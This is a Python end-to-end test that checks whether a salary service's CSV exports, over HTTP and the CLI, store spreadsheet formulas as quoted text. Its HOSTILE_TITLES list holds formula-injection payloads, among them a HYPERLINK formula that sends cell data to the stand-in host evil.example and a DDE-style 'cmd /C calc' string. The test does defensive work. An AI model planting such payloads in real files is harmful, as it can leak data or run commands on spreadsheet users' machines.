"""Issue 27, finding 7: text that a spreadsheet would run as a formula leaves every CSV export as
text (a quote in front), and a cell with a line break stays one cell; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import httpx

from service.platform.config import Settings
from tests.e2e.processes import SUBMIT, api_process, cli, env_for, graphql
from tests.factories.documents import seeded_key

HOSTILE_TITLES = ['=HYPERLINK("http://evil.example/?"&A1,"pay")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
                  "-2+3", "\t=1+1", "\r=1+1", "first line\n=second line", "a;=1+1,b"]
AS_TEXT = ["'" + title if title[0] in "=+-@\t\r" else title for title in HOSTILE_TITLES]


def submitted_titles(text: str) -> list[str]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(HOSTILE_TITLES)  # no line break or delimiter made a row of its own
    for row in rows:
        assert float(row["amount"]) > 0
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
    assert all(line.startswith('"') for line in text.splitlines()[:1])  # text cells are quoted, the header too
    return sorted(row["raw_title"] for row in rows)


def test_every_csv_export_writes_formulas_as_text(settings: Settings, tmp_path: Path) -> None:
    env = env_for(settings.mongodb_url or "", settings.redis_url or "", settings.mongodb_db)
    key = seeded_key(settings)
    with api_process(env, tmp_path) as base:
        for i, title in enumerate(HOSTILE_TITLES):
            salary = {"role": "backend-developer", "amount": 90_000 + i, "currency": "USD", "country": "US",
                      "experienceYears": 3, "title": title, "idempotencyKey": f"formula-{i:04d}"}
            reply = graphql(base, SUBMIT, {"input": salary}, key).json()
            assert reply["data"]["submitSalary"] == {"created": True, "userErrors": []}, reply
        over_http = httpx.get(f"{base}/export/observations.csv", headers={"authorization": f"Bearer {key}"},
                              timeout=15)
        assert over_http.status_code == 200
    out = tmp_path / "observations.csv"
    done = cli(["export", "observations", "--as", "admin", "--format", "csv", "--out", str(out)], env)
    assert done.returncode == 0, done.stderr
    assert submitted_titles(over_http.text) == sorted(AS_TEXT)
    assert submitted_titles(out.read_bytes().decode()) == sorted(AS_TEXT)
